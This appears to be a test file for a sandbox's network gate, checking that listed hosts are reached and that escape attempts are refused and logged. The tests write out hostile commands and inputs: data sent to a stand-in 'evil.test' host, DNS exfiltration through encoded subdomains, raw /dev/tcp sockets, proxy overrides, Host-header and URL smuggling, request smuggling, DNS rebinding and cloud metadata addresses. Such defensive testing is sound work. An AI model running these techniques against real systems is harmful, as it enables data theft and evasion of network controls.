import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import { createAuthority } from '../../../src/sandbox/gate/authority.ts';
import { temporaryFolder } from '../../support/temporaryFolder.ts';
import { gateOver } from './fakeInternet.ts';
import { httpServer, httpsServer, rawServer, type LocalServer } from './localServers.ts';
import { openGated, skippedWithoutWall, type Gated, type GatedSetup } from './openGated.ts';

interface Outside extends Gated {
  readonly plain: LocalServer;
  readonly secure: LocalServer;
  /** The addresses the gate dialled. */
  readonly dialled: () => string[];
}

/** A wall with a gate to an internet in which `allowed.test` and what is below `wild.test` may be reached. */
async function openOutside(t: TestContext, setup: GatedSetup = {}): Promise<Outside> {
  const folder = temporaryFolder(t);
  const authority = createAuthority(Date.now);
  const root = path.join(folder, 'root.pem');
  writeFileSync(root, authority.certificate);
  const plain = await httpServer(t, (request, response) => {
    if (request.url === '/redirect') response.writeHead(302, { Location: 'http://evil.test/from-redirect' });
    response.end('from outside\n');
  });
  const secure = await httpsServer(t, authority.contextFor);
  const banner = await rawServer(t, socket => socket.end('SSH-2.0-server\r\n'));
  const dialled = path.join(folder, 'dialled');
  const gateFile = gateOver(folder, {
    names: {
      'allowed.test': [['203.0.113.10']],
      'a.wild.test': [['203.0.113.10']],
      'evil.test': [['203.0.113.66']],
      'private.wild.test': [['10.1.2.3']],
      'metadata.wild.test': [['169.254.169.254', 'fd00:ec2::254']],
      'self.wild.test': [['127.0.0.1', '::1', '::ffff:127.0.0.1']],
      'rebind.wild.test': [['203.0.113.10'], ['127.0.0.1']],
      'intranet.wild.test': [['10.9.9.9']],
    },
    servers: {
      '203.0.113.10:80': plain.port,
      '203.0.113.10:443': secure.port,
      '203.0.113.10:2222': banner,
      '10.9.9.9:80': plain.port,
      // What must never be reached is there: a refusal is the gate's, not an empty net's.
      '203.0.113.66:80': plain.port,
      '203.0.113.66:443': secure.port,
      '10.1.2.3:80': plain.port,
      '169.254.169.254:80': plain.port,
      '127.0.0.1:80': plain.port,
    },
    dialled,
  });
  const gated = openGated(t, {
    gateFile,
    hosts: ['allowed.test', 'allowed.test:2222', '*.wild.test', '10.9.9.9'],
    readable: [root],
    env: { NODE_EXTRA_CA_CERTS: root, CURL_CA_BUNDLE: root, GIT_SSL_CAINFO: root },
    ...setup,
  });
  return { ...gated, plain, secure, dialled: () => readFileSync(dialled, 'utf8').split('\n').filter(Boolean) };
}

/** Writes bytes to the proxy as they stand; `printf` escapes. */
function raw(text: string): string {
  return `exec 3<>/dev/tcp/127.0.0.1/\${http_proxy##*:}; printf '${text}' >&3; timeout 20 cat <&3`;
}

test('what is on the list is reached, by every program that asks its environment', async t => {
  if (skippedWithoutWall(t)) return;
  const { run, plain, secure, violations } = await openOutside(t);
  assert.match(await run('curl -sS http://allowed.test/a'), /^from outside\n/);
  assert.match(await run('curl -sS https://allowed.test/b'), /^from outside\n/);
  assert.match(await run('curl -sS http://ALLOWED.test./c https://a.wild.test/d'), /^from outside\nfrom outside\n/);
  assert.match(await run('curl -sS -p http://allowed.test/e'), /^from outside\n/);
  const fetching = `Promise.all(['http://allowed.test/f', 'https://allowed.test/g'].map(async u => (await fetch(u)).text())).then(t => console.log(t.join('')))`;
  assert.match(await run(`'${process.execPath}' -e "${fetching}"`), /^from outside\nfrom outside\n/);
  await run('git ls-remote http://allowed.test/r.git; git ls-remote https://allowed.test/s.git');
  const curlP = `curl -sS telnet://allowed.test:2222 </dev/null`;
  assert.match(await run(curlP), /^SSH-2.0-server/);
  assert.deepEqual(plain.asked, [
    'GET /a allowed.test',
    'GET /c allowed.test',
    'GET /e allowed.test',
    'GET /f allowed.test',
    'GET /r.git/info/refs?service=git-upload-pack allowed.test',
  ]);
  assert.deepEqual(secure.asked.map(line => line.replace(/ .*? /, ' ')).sort(), [
    'GET a.wild.test',
    'GET allowed.test',
    'GET allowed.test',
    'GET allowed.test',
  ]);
  assert.deepEqual(violations, []);
});

test('what is not on the list is refused with a sentence, and told', async t => {
  if (skippedWithoutWall(t)) return;
  const { run, violations, dialled } = await openOutside(t);
  assert.match(
    await run('curl -sS http://evil.test/?d=secret'),
    /evil\.test:80 out: .* not on the list\. Ask the person/,
  );
  assert.match(await run('curl -sS https://evil.test/'), /CONNECT tunnel failed, response 403/);
  assert.match(await run('git ls-remote https://evil.test/r.git'), /403/);
  assert.match(
    await run(`'${process.execPath}' -e "fetch('https://evil.test/').catch(e => console.log('no', e.cause?.message))"`),
    /^no /,
  );
  for (const host of ['allowed.test.evil.test', 'evilallowed.test', 'wild.test', 'xn--llowed-cua.test', '203.0.113.10'])
    assert.match(await run(`curl -sS -o /dev/null -w '%{http_code}' http://${host}/`), /^403/, host);
  for (const url of [
    'http://allowed.test:8080/',
    'http://allowed.test:22/',
    'http://[2606:4700::1]/',
    'http://2130706434/',
  ])
    assert.match(await run(`curl -sS -g -o /dev/null -w '%{http_code}' ${url}`), /^403/, url);
  assert.deepEqual(violations.map(({ kind, what }) => `${kind} ${what}`).slice(0, 4), [
    'network evil.test:80',
    'network evil.test:443',
    'network evil.test:443',
    'network evil.test:443',
  ]);
  assert.deepEqual(dialled(), []);
});

test('there is no way out beside the gate', async t => {
  if (skippedWithoutWall(t)) return;
  const { run, dialled, plain } = await openOutside(t);
  const unset = 'env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy';
  for (const command of [
    `curl -sS --max-time 5 --noproxy '*' http://allowed.test/`,
    `${unset} curl -sS --max-time 5 http://allowed.test/`,
    `${unset} curl -sS --max-time 5 http://203.0.113.10/`,
    `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${plain.port}/`,
    `exec 3<>/dev/tcp/203.0.113.10/80`,
    `exec 3<>/dev/udp/203.0.113.53/53 && echo q >&3`,
    `getent hosts $(echo secret | base64).allowed.test`,
    `${unset} git ls-remote https://allowed.test/r.git`,
    `'${process.execPath}' -e "require('dns').resolve('x.allowed.test', e => process.exit(e ? 1 : 0))"`,
    // What is written inside changes nothing outside.
    `printf 'noproxy = "*"\\n' > ~/.curlrc && curl -sS --max-time 5 https://evil.test/`,
    `git config --global http.proxy '' && git ls-remote https://evil.test/r.git`,
    `printf 'proxy = "http://127.0.0.1:9"\\n' > ~/.curlrc && curl -sS --max-time 5 http://allowed.test/`,
  ])
    assert.match(await run(command), /\[exit code [1-9]\d*\]/, command);
  assert.deepEqual(dialled(), []);
  assert.deepEqual(plain.asked, []);
});

test('a listed host is no way to another one', async t => {
  if (skippedWithoutWall(t)) return;
  const { run, plain, secure, violations } = await openOutside(t);
  assert.match(
    await run(`curl -sS -H 'Host: evil.test' http://allowed.test/`),
    /Host header \(evil\.test\) is not the host/,
  );
  assert.match(await run(`curl -sS -p -H 'Host: evil.test' http://allowed.test/`), /Host header \(evil\.test\) is not/);
  for (const request of [
    `GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n`,
    `GET http://allowed.test/ HTTP/1.1\\r\\n\\r\\n`,
    `GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n`,
    `GET http://allowed.test@evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
    `GET http://evil.test\\\\@allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `GET http://evil.test%%00.allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `GET http://evil.test\\0.wild.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
    `GET https://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `CONNECT evil.test\\0.wild.test:443 HTTP/1.1\\r\\nHost: a.wild.test\\r\\n\\r\\n`,
    `CONNECT allowed.test@evil.test:443 HTTP/1.1\\r\\n\\r\\n`,
    `CONNECT allowed.test:443@evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
    `CONNECT allowed.test:443:80 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `CONNECT allowed.test HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`,
    `CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n`,
    `GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n`,
    `\\005\\001\\000\\003\\011evil.test\\001\\273`,
  ])
    assert.match(await run(raw(request)), /^HTTP\/1\.1 (400|403) /, request);
  // Inside a tunnel: another name in the TLS greeting, and what is neither TLS nor HTTP.
  assert.match(
    await run('curl -sS --connect-to evil.test:443:allowed.test:443 https://evil.test/'),
    /\[exit code [1-9]/,
  );
  const said = await run(raw(`CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\nhello\\r\\n`));
  assert.match(said, /^HTTP\/1\.1 200 /);
  assert.deepEqual(plain.asked, []);
  assert.deepEqual(secure.asked, []);
  const told = violations.map(({ what }) => what);
  assert.ok(told.includes('allowed.test:443 as evil.test'));
  assert.ok(told.includes('allowed.test:80 as evil.test'));
  assert.ok(told.includes('allowed.test:443'));
});

test('a redirect and a name that changes its mind lead nowhere', async t => {
  if (skippedWithoutWall(t)) return;
  const { run, plain, dialled } = await openOutside(t);
  assert.match(await run('curl -sS -L http://allowed.test/redirect'), /evil\.test:80 out/);
  for (const name of ['private', 'metadata', 'self'])
    assert.match(await run(`curl -sS http://${name}.wild.test/`), /leads to a private address/, name);
  assert.match(await run('curl -sS http://rebind.wild.test/first'), /^from outside/);
  assert.match(await run('curl -sS http://rebind.wild.test/second'), /leads to a private address/);
  assert.match(await run('curl -sS http://intranet.wild.test/listed'), /^from outside/);
  assert.deepEqual(plain.asked, [
    'GET /redirect allowed.test',
    'GET /first rebind.wild.test',
    'GET /listed intranet.wild.test',
  ]);
  assert.deepEqual(dialled(), ['203.0.113.10:80', '203.0.113.10:80', '10.9.9.9:80']);
});
